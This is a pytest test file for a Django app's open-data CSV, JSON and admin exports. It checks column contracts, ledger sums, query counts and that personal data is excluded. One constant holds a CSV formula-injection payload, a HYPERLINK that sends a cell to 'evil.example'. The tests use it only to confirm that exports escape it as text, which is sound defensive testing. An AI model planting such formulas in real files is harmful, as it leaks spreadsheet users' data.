"""CSV and JSON downloads: stable columns, streamed, fixed query counts, no personal data."""

import csv
import io
import json

import pytest
from django.http import StreamingHttpResponse

from matching.opendata.datasets import DATASETS
from tests.factories import ProjectFactory, make_need

from .conftest import SECRET_ID, SECRET_NAME, SECRET_PHONE

pytestmark = pytest.mark.django_db

# The published contract (docs/open-data.md). Changing a name here means a breaking change for users.
EXPECTED = {
    "projects": [
        "ref",
        "title",
        "organisation_ref",
        "organisation_name",
        "status",
        "categories",
        "service_regions",
        "starts_on",
        "ends_on",
        "budget_available",
        "currency",
        "raised",
        "allocated",
        "spent",
        "reports",
    ],
    "needs": [
        "ref",
        "title",
        "url",
        "county_code",
        "county_name",
        "circle",
        "urgency",
        "status",
        "categories",
        "beneficiaries",
        "amount_requested",
        "currency",
        "volunteers_needed",
        "deadline",
        "published_on",
        "first_response_at",
        "fulfilled_at",
    ],
    "outcomes": [
        "report_id",
        "project_ref",
        "organisation_ref",
        "period_start",
        "period_end",
        "is_final",
        "submitted_on",
        "reached_dibao",
        "reached_tekun",
        "reached_disabled",
        "reached_children",
        "reached_elderly",
        "reached_other",
        "reached_total",
        "milestones",
        "milestones_achieved",
        "photos",
        "documents",
        "url",
    ],
    "transactions": [
        "entry_id",
        "transaction_id",
        "created_at",
        "kind",
        "origin_kind",
        "reverses_transaction_id",
        "account_kind",
        "project_ref",
        "need_ref",
        "organisation_ref",
        "amount",
        "currency",
    ],
    "spending": [
        "disbursement_id",
        "transaction_id",
        "project_ref",
        "need_ref",
        "spent_on",
        "evidence_due_on",
        "line_id",
        "what",
        "amount",
        "currency",
        "beneficiaries",
        "proof_report_id",
        "proof_delivery_id",
        "photos",
        "documents",
        "state",
    ],
}


def _body(response) -> str:
    assert isinstance(response, StreamingHttpResponse)
    return b"".join(response.streaming_content).decode("utf-8")


def _csv(client, name):
    response = client.get(f"/open-data/{name}.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(_body(response).lstrip("\ufeff"))))


def _json(client, name):
    response = client.get(f"/open-data/{name}.json")
    assert response.status_code == 200
    return json.loads(_body(response))


@pytest.mark.parametrize("name", list(EXPECTED))
def test_columns_are_the_documented_ones(client, published_data, name):
    assert list(DATASETS[name].columns) == EXPECTED[name]
    rows = _csv(client, name)
    assert rows and list(rows[0]) == EXPECTED[name]
    assert list(_json(client, name)[0]) == EXPECTED[name]


def test_project_money_comes_from_the_ledger(client, published_data):
    row = {r["ref"]: r for r in _csv(client, "projects")}[published_data["project"].ref]
    # raised 10,000 + 500; 3,000 confirmed at the need and 1,000 advanced: spent 4,000
    assert (row["raised"], row["allocated"], row["spent"]) == ("10500.00", "0.00", "4000.00")
    assert row["reports"] == "1" and row["categories"] == "elderly_care"


def test_outcomes_rows(client, published_data):
    [row] = _json(client, "outcomes")
    assert (row["reached_elderly"], row["reached_total"], row["photos"], row["milestones_achieved"]) == (12, 14, 1, 1)


def test_spending_rows_say_what_each_spend_bought_and_what_proves_it(client, published_data, member):
    from matching.funding.models import Disbursement
    from matching.outcomes.models import ProgressReport
    from matching.outcomes.services.spending import SpendingFields, spending_line_add

    spend = Disbursement.objects.get(kind=Disbursement.Kind.REGULAR)
    report = ProgressReport.objects.get()
    line = spending_line_add(
        disbursement=spend,
        user=member,
        fields=SpendingFields(what="不锈钢扶手 12 套", amount=200_000, beneficiaries=12, report=report),
    )
    rows = {(r["disbursement_id"], r["line_id"]): r for r in _csv(client, "spending")}
    itemised, rest = rows[(str(spend.pk), str(line.pk))], rows[(str(spend.pk), "")]
    assert (
        itemised["what"],
        itemised["amount"],
        itemised["beneficiaries"],
        itemised["proof_report_id"],
        itemised["photos"],
        itemised["state"],
    ) == ("不锈钢扶手 12 套", "2000.00", "12", str(report.pk), "1", "evidenced")
    assert (rest["amount"], rest["state"]) == ("1000.00", "pending")
    assert itemised["transaction_id"] == str(spend.settlement_transaction_id)
    advance = Disbursement.objects.get(kind=Disbursement.Kind.ADVANCE)
    assert rows[(str(advance.pk), "")]["transaction_id"] == str(advance.allocation_transaction_id)


def test_transactions_balance_per_transaction(client, published_data):
    rows = _json(client, "transactions")
    totals = {}
    for r in rows:
        totals[r["transaction_id"]] = totals.get(r["transaction_id"], 0) + round(float(r["amount"]) * 100)
    assert len(totals) >= 5 and set(totals.values()) == {0}
    assert {r["origin_kind"] for r in rows} >= {"own_funds", "donation", "allocation", "spend", "advance"}


def test_needs_are_public_fields_only(client, published_data):
    rows = {r["ref"]: r for r in _csv(client, "needs")}
    need = published_data["need"]
    assert rows[need.ref]["county_code"] == "360321" and rows[need.ref]["url"].endswith(f"/{need.slug}/")


def test_no_personal_data_in_any_export(client, published_data):
    # given a beneficiary record with a name, ID number and phone on the published need (fixture)
    bodies = [_body(client.get(f"/open-data/{name}.{fmt}")) for name in EXPECTED for fmt in ("csv", "json")]
    bodies.append(_body(client.get("/open-data/iati/activities.xml")))
    for body in bodies:
        for secret in (SECRET_NAME, SECRET_ID, SECRET_PHONE, "二级肢体残疾"):
            assert secret not in body


def test_unknown_dataset_or_format_is_404(client):
    assert client.get("/open-data/beneficiaries.csv").status_code == 404
    assert client.get("/open-data/needs.xlsx").status_code == 404


def test_index_lists_the_datasets(client):
    html = client.get("/open-data/").content.decode()
    assert "projects" in html and "/open-data/needs.csv" in html and "/open-data/iati/activities.xml" in html


@pytest.mark.parametrize(
    "name,limit", [("projects", 7), ("needs", 5), ("outcomes", 6), ("transactions", 3), ("spending", 7)]
)
def test_query_count_does_not_grow_with_rows(client, published_data, django_assert_max_num_queries, name, limit):
    for i in range(15):
        ProjectFactory()
        make_need(county="360321", title=f"需求{i}")
    with django_assert_max_num_queries(limit):
        for fmt in ("csv",):
            _body(client.get(f"/open-data/{name}.{fmt}"))


def test_rows_are_batched(published_data, monkeypatch):
    """Streaming: rows come a batch at a time, never one list of everything."""
    from matching.opendata import streaming

    monkeypatch.setattr(streaming, "BATCH", 2)
    calls = []
    real = streaming.batched_by_pk

    def spy(qs, size=2):
        for batch in real(qs, size=2):
            calls.append(len(batch))
            yield batch

    monkeypatch.setattr("matching.opendata.datasets.batched_by_pk", spy)
    for i in range(3):
        make_need(county="360321", title=f"分批{i}")
    rows = list(DATASETS["needs"].rows())
    assert len(rows) == 5 and max(calls) == 2 and len(calls) >= 3


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'


def test_a_formula_in_a_title_is_written_as_text_in_every_csv(client):
    ProjectFactory(title=FORMULA)
    make_need(county="360321", title="@SUM(1+1)")

    projects = {row["title"] for row in _csv(client, "projects")}
    needs = {row["title"] for row in _csv(client, "needs")}

    assert "'" + FORMULA in projects and FORMULA not in projects
    assert "'@SUM(1+1)" in needs


def test_numbers_stay_numbers_in_csv():
    from matching.csv_cells import csv_safe
    from matching.opendata.streaming import csv_lines

    lines = list(csv_lines(("a", "b", "c"), [{"a": -300, "b": "-300", "c": "\tx"}]))
    assert lines[1] == "-300,'-300,'\tx\r\n"
    assert [csv_safe(v) for v in ("+1", "\rx", "ok", 5)] == ["'+1", "'\rx", "ok", 5]


def test_admin_csv_exports_write_formulas_as_text(client):
    from tests.factories import UserFactory

    make_need(county="360321", title=FORMULA)
    client.force_login(UserFactory(username="csv_root", is_superuser=True, is_staff=True))

    response = client.get("/admin/reports/aging-pages/?export=csv")

    body = b"".join(response.streaming_content).decode("utf-8") if response.streaming else response.content.decode()
    assert response.status_code == 200
    assert "'" + FORMULA.replace('"', '""') in body
    assert "," + FORMULA.replace('"', '""') not in body and '"' + FORMULA.replace('"', '""') not in body
